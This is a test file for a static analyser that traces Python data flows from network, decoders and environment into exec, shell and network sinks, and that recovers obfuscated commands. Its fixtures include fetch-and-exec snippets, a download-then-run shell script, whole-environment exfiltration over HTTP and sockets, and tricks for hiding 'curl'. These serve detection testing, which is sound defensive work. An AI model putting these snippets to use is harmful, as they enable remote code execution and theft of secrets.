import { expect, test } from 'vitest';
import { read } from './reading.js';

const flowsIn = async (text: string) => (await read(text)).facts?.flows({ from: ['decoder', 'network', 'credentials', 'environment'], to: ['exec', 'process', 'network'] }) ?? [];
const commandIn = async (text: string) => (await read(`import os\n${text}`)).facts?.calls('process')[0]?.text;

test('a flow tells every step from its source to its sink', async () => {
  const [flow] = await flowsIn('from base64 import b64decode as d\ndef unpack(text):\n    return d(text)\ncode = unpack(X)\nexec(code)\n');
  expect(flow).toMatchObject({ from: 'decoder', to: 'exec', when: 'import', through: 'value', source: { name: 'base64.b64decode', line: 3 }, sink: { name: 'exec', line: 5 } });
  expect(flow?.steps.map((step) => `${step.line}: ${step.what}`)).toEqual([
    '3: base64.b64decode gives it',
    '4: returned by unpack()',
    '4: assigned to code',
    '5: reaches exec',
  ]);
});

test.each([
  ['a dict entry', 'd["k"] = requests.get(u).text\nexec(d["k"])'],
  ['a list', 'd = []\nd.append(requests.get(u).text)\nexec(d[0])'],
  ['an attribute', 'class A: pass\na = A()\na.x = requests.get(u).text\nexec(a.x)'],
  ['a walrus', 'if (t := requests.get(u).text):\n    exec(t)'],
  ['a with block', 'with requests.get(u) as r:\n    exec(r.text)'],
  ['a with block in a branch', 'if u:\n    with requests.get(u) as r:\n        exec(r.text)'],
  ['what a with block in a branch may have opened', 'r = None\nif u:\n    with requests.get(u) as r:\n        pass\nexec(r.text)'],
  ['what a with block in a branch may not have opened', 'r = requests.get(u)\nif u:\n    with a as r:\n        pass\nexec(r.text)'],
  ['a loop', 'for line in requests.get(u).iter_lines():\n    exec(line)'],
  ['a tuple', 'a, b = requests.get(u).text, 1\nexec(a)'],
  ['a global', 'def f():\n    global t\n    t = requests.get(u).text\nf()\nexec(t)'],
  ['an f-string', 'exec(f"{requests.get(u).text}")'],
  ['a session', 's = requests.Session()\nexec(s.get(u).text)'],
  ['a closure', 'def f():\n    t = requests.get(u).text\n    def g():\n        exec(t)\n    g()\nf()'],
])('data flows through %s', async (_, text) => {
  expect(await flowsIn(`import requests\nd = {}\n${text}\n`)).toMatchObject([{ from: 'network', to: 'exec' }]);
});

test.each([
  ['a name that was given another value', 'code = d(x)\ncode = "1"\nexec(code)'],
  ['a comparison', 'if d(x) == "y":\n    exec("1")'],
  ['a function with the name of a sink', 'class A:\n    def exec(self, c): pass\nA().exec(d(x))'],
  ['a file in a branch with the name of another', 'try:\n    with open("a.py") as f:\n        exec(f.read())\nexcept OSError:\n    pass\nif x:\n    with d(x) as f:\n        f.read()\n'],
  ['a file in a branch with the name of one before it', 'with d(x) as f:\n    f.read()\nif x:\n    with open("a.py") as f:\n        exec(f.read())\n'],
  ['a parameter with the name of a sink', 'def f(exec):\n    exec(d(x))'],
  ['what an object of its own makes of itself', 'exec(template.translate())'],
  ['words in another language', 'from PyQt5.QtCore import QCoreApplication\nexec(QCoreApplication.translate("Main", "x"))'],
  ['a pattern of file names', 'import fnmatch\nexec(fnmatch.translate(x))'],
  ['namespace arguments', 'exec("1", {"k": d(x)})'],
])('nothing flows through %s', async (_, text) => {
  expect(await flowsIn(`from base64 import b64decode as d\n${text}\n`)).toEqual([]);
});

test('a text that is translated letter by letter is decoded, also where it becomes a pattern of file names', async () => {
  expect(await flowsIn('import fnmatch\nexec(fnmatch.translate(open(x).read().translate(table)))\n')).toMatchObject([{ from: 'decoder', to: 'exec' }]);
});

test('a file that is fetched and then run is one flow', async () => {
  const flows = await flowsIn('import os, urllib.request\nurllib.request.urlretrieve(u, "/tmp/stage.sh")\nos.system("sh /tmp/stage.sh")\n');
  expect(flows).toMatchObject([{ from: 'network', to: 'process', through: 'file' }]);
});

test('nothing leaves by a connection that is read from', async () => {
  const connection = 'import os, ssl\ns = ssl.wrap_socket(dict(os.environ))\n';
  expect(await flowsIn(`${connection}s.recv(9)\n`)).toEqual([]);
  expect(await flowsIn(`${connection}s.send(b"")\n`)).toMatchObject([{ from: 'environment', to: 'network' }]);
});

test('one environment variable is not the whole environment', async () => {
  expect(await flowsIn('import os, requests\nrequests.get(u, headers={"t": os.environ["T"], "v": os.environ.get("V")})\n')).toEqual([]);
  expect(await flowsIn('import os, requests\nrequests.post(u, json=dict(os.environ))\n')).toMatchObject([{ from: 'environment' }]);
});

test.each([
  ['os.system("cu" + "rl")', 'curl'],
  ['os.system("%s -s %s" % ("curl", "x"))', 'curl -s x'],
  ['os.system("{} {}".format("curl", "x"))', 'curl x'],
  ['os.system(f"curl {unknown}")', 'curl {}'],
  ['os.system(os.path.join(os.environ.get("DIR", ""), "curl"))', '{}/curl'],
  ['os.system(os.environ.get("TOOL", "curl") + " -s")', 'curl -s'],
  ['subprocess.call([unknown] + shlex.split("-m curl") + ["-s"])', '{} -m curl -s'],
  ['os.system("lruc"[::-1])', 'curl'],
  ['os.system("".join(["c", "url"]))', 'curl'],
  ['os.system(chr(99) + chr(100 + 17) + "rl")', 'curl'],
  ['os.system("\\x63\\165rl")', 'curl'],
  ['os.system("cXrl".replace("X", "u"))', 'curl'],
  ['import subprocess\nsubprocess.run(["curl", "-s", unknown])', 'curl -s {}'],
  ['words = "curl x".split()\nos.popen(words[0])', 'curl'],
])('%s starts %j', async (text, command) => {
  expect(await commandIn(text)).toBe(command);
});

test.each([
  ['appended to', 'cmd = ["tar"]\ncmd.append("-x")\ncmd.append(name)\nos.system(cmd)', 'tar -x {}'],
  ['extended', 'cmd = ["tar"]\ncmd.extend(["-x", "-f"])\ncmd.extend(names)\nos.system(cmd)', 'tar -x -f {}'],
  ['added to what is not known', 'os.system(tool + ["-x"])', '{} -x'],
])('the words of a command are known that are %s', async (_, text, command) => {
  expect(await commandIn(text)).toBe(command);
});

const told = (socket: string): string => `import os, socket\nfrom socket import AF_UNIX as LOCAL\n${socket}\ns.connect(a)\ns.sendall(str(dict(os.environ)).encode())\n`;

test.each([
  ['between programs of the machine', 's = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)'],
  ['between programs of the machine, by another name', 's = socket.socket(family=LOCAL)'],
  ['to the kernel', 's = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW)'],
])('what is told to a socket %s does not leave it', async (_, socket) => {
  expect(await flowsIn(told(socket))).toEqual([]);
});

test.each([
  ['of the internet', 's = socket.socket(socket.AF_INET, socket.SOCK_STREAM)'],
  ['of no family that is said', 's = socket.socket()'],
  ['of a family that may be another', 'f = socket.AF_INET\nif x:\n    f = socket.AF_UNIX\ns = socket.socket(f)'],
  ['of one family or the other', 's = socket.socket(socket.AF_UNIX if x else socket.AF_INET)'],
  ['of one family or a number', 's = socket.socket(socket.AF_UNIX if x else 2)'],
  ['of a family that may be one by its name', 'from socket import AF_INET as other\ns = socket.socket(LOCAL if x else other)'],
  ['that may be another', 's = socket.socket()\nif x:\n    s = socket.socket(socket.AF_UNIX)'],
  ['of a family that only has the name of another', 'socket.AF_UNIX = socket.AF_INET\ns = socket.socket(socket.AF_UNIX)'],
])('what is told to a socket %s leaves', async (_, socket) => {
  expect(await flowsIn(told(socket))).toMatchObject([{ from: 'environment', to: 'network' }]);
});
